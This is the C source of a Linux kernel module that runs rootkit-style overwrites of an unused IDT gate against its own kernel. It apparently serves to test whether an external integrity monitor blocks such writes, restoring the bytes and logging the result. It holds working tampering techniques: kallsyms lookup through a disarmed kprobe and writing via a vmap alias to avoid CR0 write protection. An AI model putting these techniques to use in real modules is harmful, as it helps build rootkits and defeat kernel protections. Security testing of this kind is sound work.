// SPDX-License-Identifier: MIT
/*
 * attack - a kernel module that does to its own kernel what a rootkit does, and says whether it worked.
 *
 * It tells beforehand, in one line, what it is about to overwrite and from which instruction, so that whoever watches
 * from outside can be checked against it. Whatever lands is put back at once, with interrupts off.
 *
 *   insmod attack.ko what=idt|unaligned|rmw|or [vector=0xe1]
 *
 * CR0.WP is left alone: the attack writes through a writable mapping of its own of the page (an alias), as code does
 * that wants to stay clear of the checks on CR0.
 */
#include <linux/io.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>
#include <asm/desc.h>
#include <asm/hw_irq.h>
#include <asm/special_insns.h>

#define GATE_SIZE 16u
#define STORE_SIZE 8u

static char *what = "idt";
module_param(what, charp, 0);
MODULE_PARM_DESC(what, "kind of attack: idt, unaligned, rmw, or");

static unsigned int vector = 0xe1;
module_param(vector, uint, 0);
MODULE_PARM_DESC(vector, "IDT vector to attack; it must be unused");

/* ---- the instructions that attack: one each, with its address known ----------------------------------------------- */

extern const char attack_mov_rip[], attack_xor_rip[], attack_or_rip[];

static noinline __noclone void store_mov(void *target, u64 value)
{
	asm volatile("attack_mov_rip: movq %1, (%0)" :: "r"(target), "r"(value) : "memory");
}

static noinline __noclone void store_xor(void *target, u64 value)
{
	asm volatile("attack_xor_rip: lock xorq %1, (%0)" :: "r"(target), "r"(value) : "memory", "cc");
}

static noinline __noclone void store_or(void *target, u64 value)
{
	asm volatile("attack_or_rip: lock orq %1, (%0)" :: "r"(target), "r"(value) : "memory", "cc");
}

/* ---- what the attacked bytes become ------------------------------------------------------------------------------- */

/* Where a redirected gate would lead: never run, the vector is unused. */
static noinline void attacker_entry(void)
{
	asm volatile("nop");
}

/* The lower half of the gate, leading to attacker_entry(): module and kernel text share the upper half. */
static u64 redirected(u64 old)
{
	u64 entry = (unsigned long)attacker_entry;

	return (old & 0x0000ffffffff0000ull) | (entry & 0xffff) | (entry & 0xffff0000ull) << 32;
}

static u64 inverted(u64 old)
{
	return ~old;
}

/* For an instruction that changes bits: another handler, the present bit and the selector kept. */
static u64 changed_bits(u64 old)
{
	return old ^ 0x0001000000000ff0ull;
}

static u64 added_bits(u64 old)
{
	return old | 0x0001000000000ff0ull;
}

/* What the instruction takes so that the bytes become `new`. */
static u64 operand_itself(u64 old, u64 new)
{
	return new;
}

static u64 operand_difference(u64 old, u64 new)
{
	return old ^ new;
}

struct kind {
	const char *name;
	unsigned int offset;		/* of the store from the start of the gate */
	unsigned int gates;		/* gates that the store touches */
	const char *rip;
	void (*store)(void *target, u64 operand);
	u64 (*changed)(u64 old);
	u64 (*operand)(u64 old, u64 new);
};

static const struct kind kinds[] = {
	{ "idt", 0, 1, attack_mov_rip, store_mov, redirected, operand_itself },
	{ "unaligned", 13, 2, attack_mov_rip, store_mov, inverted, operand_itself },
	{ "rmw", 0, 1, attack_xor_rip, store_xor, changed_bits, operand_difference },
	{ "or", 0, 1, attack_or_rip, store_or, added_bits, operand_difference },
};

static const struct kind *find_kind(void)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(kinds); i++)
		if (!strcmp(what, kinds[i].name))
			return &kinds[i];
	return NULL;
}

/* ---- is the vector really unused? --------------------------------------------------------------------------------- */

/* A probe that is registered disarmed looks a name up and writes to no text. */
static unsigned long symbol(const char *name)
{
	static unsigned long (*lookup)(const char *name);

	if (!lookup) {
		struct kprobe probe = { .symbol_name = "kallsyms_lookup_name", .flags = KPROBE_FLAG_DISABLED };

		if (register_kprobe(&probe))
			return 0;
		lookup = (void *)probe.addr;
		unregister_kprobe(&probe);
	}
	return lookup(name);
}

/* No interrupt of any CPU and no use by the kernel itself. */
static bool is_unused(unsigned int number)
{
	vector_irq_t __percpu *irqs = (vector_irq_t __percpu *)symbol("vector_irq");
	unsigned long *kernel_owned = (unsigned long *)symbol("system_vectors");
	int cpu;

	if (!irqs || !kernel_owned) {
		pr_err("attack: cannot see which vectors are in use\n");
		return false;
	}
	if (number < FIRST_EXTERNAL_VECTOR || number >= NR_VECTORS || test_bit(number, kernel_owned))
		return false;
	for_each_online_cpu(cpu)
		if ((*per_cpu_ptr(irqs, cpu))[number] != VECTOR_UNUSED)
			return false;
	return true;
}

/* ---- the attack ---------------------------------------------------------------------------------------------------- */

struct target {
	void *idt;			/* where the CPU reads the bytes */
	void *alias;			/* our own writable mapping of them */
	phys_addr_t gpa;
};

static int map_alias(struct target *target)
{
	struct page *page;
	void *map;

	target->gpa = slow_virt_to_phys(target->idt);
	page = pfn_to_page(target->gpa >> PAGE_SHIFT);
	map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	target->alias = map + offset_in_page(target->idt);
	return 0;
}

static u64 read_bytes(const void *from)
{
	u64 value;

	memcpy(&value, from, sizeof(value));
	barrier();
	return value;
}

static void attack(const struct kind *kind, const struct target *target, const struct desc_ptr *idtr)
{
	u64 old = read_bytes(target->idt), new = kind->changed(old), through_idt, through_alias;
	unsigned long flags;

	pr_info("attack: idt=0x%lx limit=0x%x vector=0x%x gpa=0x%llx alias=0x%lx rip=0x%lx old=%8phN new=%8phN cr0=0x%lx\n",
		idtr->address, idtr->size, vector, (u64)target->gpa, (unsigned long)target->alias,
		(unsigned long)kind->rip, &old, &new, native_read_cr0());

	local_irq_save(flags);
	kind->store(target->alias, kind->operand(old, new));
	through_idt = read_bytes(target->idt);
	through_alias = read_bytes(target->alias);
	if (through_idt != old || through_alias != old)
		memcpy(target->alias, &old, sizeof(old));
	local_irq_restore(flags);

	pr_info("attack: gate reads %8phN through the IDT and %8phN through the alias: write %s\n",
		&through_idt, &through_alias,
		through_idt == old && through_alias == old ? "BLOCKED" : "LANDED, restored");
}

static int __init attack_init(void)
{
	const struct kind *kind = find_kind();
	struct target target = { };
	struct desc_ptr idtr;
	unsigned int i;
	int error;

	if (!kind) {
		pr_err("attack: unknown kind '%s'\n", what);
		return -EINVAL;
	}
	store_idt(&idtr);
	for (i = 0; i < kind->gates; i++) {
		if ((vector + i + 1) * GATE_SIZE > idtr.size + 1u || !is_unused(vector + i)) {
			pr_err("attack: vector 0x%x is in use or outside of the IDT\n", vector + i);
			return -EBUSY;
		}
	}
	target.idt = (void *)idtr.address + vector * GATE_SIZE + kind->offset;
	if (offset_in_page(target.idt) + STORE_SIZE > PAGE_SIZE) {
		pr_err("attack: the store would leave the page\n");
		return -EINVAL;
	}
	error = map_alias(&target);
	if (error) {
		pr_err("attack: cannot map the IDT's page: %d\n", error);
		return error;
	}
	attack(kind, &target, &idtr);
	vunmap(target.alias - offset_in_page(target.alias));
	return 0;
}

static void __exit attack_exit(void)
{
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("Overwrites an IDT gate and says whether that worked");
MODULE_LICENSE("Dual MIT/GPL");
